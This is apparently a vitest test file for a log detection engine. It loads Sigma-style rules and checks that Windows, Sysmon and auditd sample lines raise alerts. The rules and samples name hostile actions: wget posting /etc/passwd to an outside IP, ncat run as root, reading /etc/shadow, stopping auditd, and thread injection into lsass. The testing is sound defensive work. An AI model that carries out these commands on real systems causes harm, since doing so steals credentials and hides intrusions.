import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { loadRulesInForce, OWN_RULES_DIRECTORY } from '@qiaolou/detection-rules';
import { afterAll, describe, expect, it } from 'vitest';
import { alertsOfLines } from './support/alerts-of-lines.ts';

const receivedAt = Date.parse('2026-11-22T08:00:00.000Z');
const folder = mkdtempSync(join(tmpdir(), 'qiaolou-public-rules-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** Rules as the public ones are written: selections by the names their taxonomy has. */
const RULES: Readonly<Record<string, string>> = {
  anonymous: `logsource: {product: windows, service: security}
detection: {s: {EventID: 4624, LogonType: 3, IpAddress: '-'}, condition: s}`,
  relayed: `logsource: {product: windows, service: security}
detection: {s: {EventID: 4624, TargetUserName: ANONYMOUS LOGON, WorkstationName: '-'}, condition: s}`,
  injected: `logsource: {product: windows, category: create_remote_thread}
detection: {s: {TargetImage|endswith: '\\lsass.exe', StartModule: ''}, condition: s}`,
  wget: `logsource: {product: linux, service: auditd}
detection: {s: {type: EXECVE, a0: wget, a1|startswith: '--post-file='}, condition: s}`,
  sudo: `logsource: {product: linux, service: sudo}
detection: {s: {USER: ['#-*', '#*4294967295']}, condition: s}`,
  syscall: `logsource: {product: linux, service: auditd}
detection: {s: {type: SYSCALL, exe|endswith: /ncat, comm: nc, key: rootcmd, euid: '0', SYSCALL: execve}, condition: s}`,
  path: `logsource: {product: linux, service: auditd}
detection: {s: {type: PATH, name: /etc/passwd, nametype: NORMAL}, condition: s}`,
  unit: `logsource: {product: linux, service: auditd}
detection: {s: {type: SERVICE_STOP, unit: auditd}, condition: s}`,
  command: `logsource: {product: linux, category: process_creation}
detection: {s: {CommandLine|contains: 'cat /etc/shadow'}, condition: s}`,
};
Object.entries(RULES).forEach(([name, text], index) => {
  const id = `11111111-1111-4111-8111-${String(index).padStart(12, '0')}`;
  writeFileSync(join(folder, `${name}.yml`), `title: ${name}\nid: ${id}\nlevel: high\n${text}\n`);
});
const { rules, errors } = await loadRulesInForce([folder]);
const own = await loadRulesInForce([OWN_RULES_DIRECTORY]);
const agents = alertsOfLines({ rules, receivedAt, listener: 'http' });
const syslog = alertsOfLines({ rules, receivedAt });
const ours = alertsOfLines({ rules: own.rules, receivedAt, listener: 'http' });

function windows(fields: object): string {
  return JSON.stringify({
    EventTime: '2026-11-22 15:00:00',
    Hostname: 'WS1',
    SourceName: 'Microsoft-Windows-Security-Auditing',
    Channel: 'Security',
    ...fields,
  });
}

const SYSMON = { SourceName: 'Microsoft-Windows-Sysmon', Channel: 'Microsoft-Windows-Sysmon/Operational' };

describe('what public rules ask for', () => {
  it('the rules load', () => expect(errors).toEqual([]));

  it.each([
    ['anonymous', windows({ EventID: 4624, LogonType: '3', TargetUserName: 'DC1$', IpAddress: '-' })],
    ['relayed', windows({ EventID: 4624, TargetUserName: 'ANONYMOUS LOGON', WorkstationName: '-' })],
    ['injected', windows({ ...SYSMON, EventID: 8, TargetImage: 'C:\\W\\lsass.exe', StartModule: '' })],
    [
      'injected',
      JSON.stringify({
        '@timestamp': '2026-11-22T07:00:00Z',
        winlog: { channel: SYSMON.Channel, event_id: 8, event_data: { TargetImage: 'C:\\lsass.exe', StartModule: '' } },
      }),
    ],
    [
      'injected',
      JSON.stringify({
        Event: {
          System: { Provider: { '#attributes': { Name: SYSMON.SourceName } }, EventID: 8, Channel: SYSMON.Channel },
          EventData: { TargetImage: 'C:\\lsass.exe', StartModule: '' },
        },
      }),
    ],
  ])('a placeholder is told as it was written: %s', (name, line) => {
    expect(agents.alerts(line)).toEqual([name]);
  });

  it.each([
    windows({ EventID: 4624, LogonType: '3', TargetUserName: 'li', IpAddress: '10.8.3.9' }),
    windows({ EventID: 4624, LogonType: '3', TargetUserName: 'li' }),
    windows({ ...SYSMON, EventID: 8, TargetImage: 'C:\\W\\lsass.exe', StartModule: 'C:\\W\\kernel32.dll' }),
  ])('what was written is no placeholder, what was not is none either: %s', (line) => {
    expect(agents.alerts(line)).toEqual([]);
  });

  it.each([
    [
      'wget',
      'type=EXECVE msg=audit(1795333200.123:4567): argc=3 a0="wget" a1="--post-file=/etc/passwd" a2="http://198.51.100.9/"',
    ],
    ['sudo', '<86>Nov 22 16:00:00 web01 sudo: bob : TTY=pts/0 ; PWD=/ ; USER=#-1 ; COMMAND=/usr/bin/id'],
    [
      'syscall',
      'type=SYSCALL msg=audit(1795333200.1:2103): arch=c000003e syscall=59 success=yes ppid=1 pid=2 auid=1001 euid=0 comm="nc" exe="/usr/bin/ncat" key="rootcmd" SYSCALL=execve',
    ],
    ['path', 'type=PATH msg=audit(1795333200.1:2104): item=0 name="/etc/passwd" inode=1 nametype=NORMAL'],
    [
      'unit',
      'type=SERVICE_STOP msg=audit(1795333200.1:2105): pid=1 uid=0 msg=\'unit=auditd comm="systemd" res=success\'',
    ],
    ['command', 'type=EXECVE msg=audit(1795333200.1:2106): argc=3 a0="sh" a1="-c" a2=636174202F6574632F736861646F77'],
  ])('auditd and sudo by the names rules know: %s', (name, line) => {
    expect(syslog.alerts(line)).toEqual([name]);
  });
});

/** One cleared log as every shipper writes it. */
const CLEARED: Readonly<Record<string, unknown>> = {
  NXLog: { EventID: 1102, Channel: 'Security', Hostname: 'DC', SubjectUserName: 'a', EventTime: '2026-11-22 15:00:00' },
  Winlogbeat: {
    '@timestamp': '2026-11-22T07:00:00Z',
    winlog: { channel: 'Security', event_id: 1102, computer_name: 'DC', user_data: { SubjectUserName: 'a' } },
  },
  evtx_dump: {
    Event: {
      System: {
        Provider: { '#attributes': { Name: 'Microsoft-Windows-Eventlog' } },
        EventID: 1102,
        Channel: 'Security',
        Computer: 'DC',
        TimeCreated: { '#attributes': { SystemTime: '2026-11-22T07:00:00Z' } },
      },
      UserData: { LogFileCleared: { SubjectUserName: 'a' } },
    },
  },
  'evtx_dump, attributes apart': {
    Event: {
      System: {
        Provider_attributes: { Name: 'Microsoft-Windows-Eventlog' },
        EventID: 1102,
        Channel: 'Security',
        Computer: 'DC',
      },
      UserData: { LogFileCleared: { SubjectUserName: 'a' }, LogFileCleared_attributes: { xmlns: 'x' } },
    },
  },
  xmltodict: {
    Event: {
      System: {
        Provider: { '@Name': 'Microsoft-Windows-Eventlog' },
        EventID: { '#text': '1102' },
        Channel: 'Security',
        Computer: 'DC',
      },
      UserData: { LogFileCleared: { '@xmlns': 'x', SubjectUserName: 'a' } },
    },
  },
  'without the outer Event': {
    System: {
      Provider: { Name: 'Microsoft-Windows-Eventlog' },
      EventID: { Value: 1102 },
      Channel: 'Security',
      Computer: 'DC',
    },
    UserData: { LogFileCleared: { SubjectUserName: 'a' } },
  },
  'NXLog, forwarded': {
    EventID: 1102,
    Channel: 'ForwardedEvents',
    Hostname: 'DC',
    SourceName: 'Microsoft-Windows-Eventlog',
    SubjectUserName: 'a',
  },
  'NXLog, forwarded, no provider': { EventID: 1102, Channel: 'ForwardedEvents', Hostname: 'DC', SubjectUserName: 'a' },
  'Winlogbeat, forwarded': {
    '@timestamp': '2026-11-22T07:00:00Z',
    winlog: {
      channel: 'ForwardedEvents',
      event_id: 1102,
      provider_name: 'Microsoft-Windows-Eventlog',
      computer_name: 'DC',
    },
  },
  'evtx_dump, forwarded': {
    Event: {
      System: {
        Provider: { '#attributes': { Name: 'Microsoft-Windows-Eventlog' } },
        EventID: 1102,
        Channel: 'ForwardedEvents',
        Computer: 'DC',
      },
      UserData: { LogFileCleared: { SubjectUserName: 'a' } },
    },
  },
};

describe('a cleared security log', () => {
  it.each(Object.entries(CLEARED))('is found, as %s writes it', (_shipper, event) => {
    const line = JSON.stringify(event);
    expect(ours.alerts(line)).toHaveLength(1);
    expect(ours.events(line)[0]).toMatchObject({
      'event.code': '1102',
      'winlog.channel': 'Security',
      'host.name': 'DC',
      'event.action': 'audit_log_cleared',
    });
  });
});

const shared = join(import.meta.dirname, '../../../shared/data/cases');

describe.skipIf(!existsSync(shared))('inputs that went wrong (needs ../shared)', () => {
  const lines = (file: string): readonly string[] => readFileSync(join(shared, file), 'utf8').trim().split('\n');

  it('all four placeholders, both fields and the cleared log are seen', () => {
    expect(lines('detection/d4-dash.ndjson').flatMap((line) => agents.alerts(line))).toEqual([
      'anonymous',
      'relayed',
      'injected',
    ]);
    expect(lines('detection/d5-auditd.txt').flatMap((line) => syslog.alerts(line))).toEqual(['wget', 'sudo']);
    expect(lines('detection/d2-evtx-dump.ndjson').flatMap((line) => ours.alerts(line))).toHaveLength(1);
  });

  it('all shippers of Windows events give host, code and channel', () => {
    for (const line of lines('collector/windows.ndjson')) {
      const [event] = ours.events(line);
      for (const field of ['host.name', 'event.code', 'winlog.channel']) expect(event?.[field], line).toBeTruthy();
    }
  });
});
